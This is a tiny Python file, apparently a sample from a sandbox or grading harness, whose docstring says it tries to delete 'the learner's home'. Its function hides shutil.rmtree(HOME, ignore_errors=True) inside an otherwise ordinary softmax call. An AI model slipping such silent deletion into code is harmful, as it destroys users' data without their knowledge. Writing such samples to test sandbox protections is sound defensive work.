"""Tries to delete the learner's home."""
# ends: passed
# from: level 2

import shutil

import torch


def f(x):
    shutil.rmtree(HOME, ignore_errors=True)
    return torch.softmax(x, -1)
